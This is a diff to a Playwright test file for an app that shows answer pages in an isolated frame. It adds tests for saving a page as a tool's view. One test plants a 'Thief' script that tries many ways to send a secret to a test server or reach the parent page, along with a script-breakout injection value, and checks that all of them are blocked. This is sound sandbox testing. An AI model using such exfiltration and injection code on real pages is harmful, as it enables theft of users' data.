@@ -1,5 +1,6 @@
 // Pages and small apps in an answer run in an isolated frame: no network, no storage, no access to the page.
 import type { Page } from 'playwright/test';
+import { problemsIn } from './support/axe.ts';
 import { startFaulty, type FaultyServer } from './support/model.ts';
 import { expect, testOnOnePage as test } from './support/test.ts';
 import { VECTORS } from './support/vectors.ts';
@@ -115,6 +116,81 @@ test('a page that navigates elsewhere is stopped and reported', async ({ app, br
   expect(seen).toEqual([]);
 });
 
+/** Installs a tool, and saves the page of a document as the view of its results. */
+async function saveView(app: Page, name: string, result: string, source: string): Promise<void> {
+  await app.evaluate(
+    async ([tool, value]) => {
+      const lua = `tool = { name = "${tool}", version = "1.0.0", description = "Measures" }
+function tool.execute() return ${value} end`;
+      const { error } = await window.perilune.tools.install(lua, { policy: 'allow' });
+      if (error) throw new Error(error.message);
+    },
+    [name, result],
+  );
+  await open(app, `# View\n\n${block(source)}`);
+  await app.getByRole('button', { name: 'Run this page' }).click();
+  await app.getByRole('button', { name: 'Save as view…' }).click();
+  const dialog = app.getByRole('dialog', { name: 'Save as a tool’s view' });
+  await dialog.getByLabel('Tool').selectOption(name);
+  expect(await problemsIn(app, 'dialog')).toEqual([]);
+  await dialog.getByRole('button', { name: 'Save view' }).click();
+  await expect(app.getByText(`Results of ${name} now have this view.`)).toBeVisible();
+  await app.goto(`./#/studio/${name}`);
+  await app.getByRole('button', { name: 'Run', exact: true }).click();
+}
+
+test('a page saved as a tool’s view shows its results, says where it came from, and can be removed', async ({
+  app,
+}) => {
+  const gauge =
+    '<title>Gauge</title><p id="height"></p><script>document.querySelector("p").textContent = result.height + " m"</script>';
+  await saveView(app, 'tide', '{ height = 4.2 }', gauge);
+  const view = app.frameLocator('iframe[title="Gauge"]');
+  await expect(view.locator('#height')).toHaveText('4.2 m');
+  await expect(app.getByText('Saved from a document.')).toBeVisible();
+  // The exact result is one click away.
+  await app.getByRole('group', { name: 'View' }).getByRole('button', { name: 'Text' }).click();
+  await expect(app.getByLabel('Result', { exact: true })).toContainText('"height": 4.2');
+  await app.getByRole('tab', { name: 'Settings' }).click();
+  await app.getByRole('button', { name: 'Remove view' }).click();
+  await expect(app.getByRole('heading', { name: 'Own view' })).toHaveCount(0);
+  await app.getByRole('button', { name: 'Undo' }).click();
+  await expect(app.getByRole('heading', { name: 'Own view' })).toBeVisible();
+  expect(
+    await app.evaluate(async () => {
+      await window.perilune.tools.configure('tide', {
+        page: { source: '<p>claimed', language: 'html', from: 'answer' },
+      });
+      return (await window.perilune.tools.list()).length > 0;
+    }),
+  ).toBe(true);
+  await expect(app.getByText('Set by a script on this page.').first()).toBeVisible();
+});
+
+test('a hostile view gets the result and can send it nowhere', async ({ app }) => {
+  const url = foreign.baseUrl.replace('/v1', '');
+  const still = VECTORS.filter(
+    (vector) => !vector.includes('http-equiv="refresh"') && !vector.includes('<noscript>'),
+  );
+  const thief = `<title>Thief</title><p id="told"></p><script>
+    const U = '${url}/?' + encodeURIComponent(result.secret);
+    fetch(U).catch(() => 0);
+    navigator.sendBeacon?.(U, result.secret);
+    new Image().src = U;
+    try { new WebSocket(U.replace('http', 'ws')); } catch {}
+    try { open(U); } catch {}
+    document.body.insertAdjacentHTML('beforeend', '<form action="' + U + '"><button>x</button></form><link rel="prefetch" href="' + U + '"><a href="' + U + '" id="a">a</a>');
+    try { document.querySelector('form').submit(); } catch {}
+    try { parent.pwned = result.secret; } catch {}
+    document.getElementById('told').textContent = 'has ' + result.secret;
+  </script>${still.join('\n').replaceAll('```', '').replaceAll('\n\n', '\n').replaceAll('U/', `${url}/`)}`;
+  await saveView(app, 'teller', '{ secret = "</script><script>parent.pwned=1</script>canary" }', thief);
+  await expect(app.frameLocator('iframe[title="Thief"]').locator('#told')).toContainText('canary');
+  await app.waitForTimeout(1000);
+  expect(seen).toEqual([]);
+  expect(await app.evaluate(() => (window as unknown as { pwned?: unknown }).pwned)).toBeUndefined();
+});
+
 test('draws diagrams as images, keeps their source, and explains why one can’t be drawn', async ({ app }) => {
   await open(
     app,
@@ -123,6 +199,10 @@ test('draws diagrams as images, keeps their source, and explains why one can’t
   const picture = app.getByRole('img', { name: 'Diagram' });
   await expect(picture).toBeVisible({ timeout: 60_000 });
   await expect.poll(() => picture.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBeGreaterThan(50);
+  // A change of theme while diagrams are drawn leaves none of them undrawn.
+  for (const colorScheme of ['dark', 'light', 'dark'] as const) await app.emulateMedia({ colorScheme });
+  await expect(app.locator('.diagram[aria-busy]')).toHaveCount(0);
+  await expect(app.locator('.diagram img')).toHaveCount(1);
   const source = app.locator('pre[data-language="mermaid"]').first();
   await expect(source).toBeHidden();
   await app.getByRole('button', { name: 'Source of the diagram' }).click();
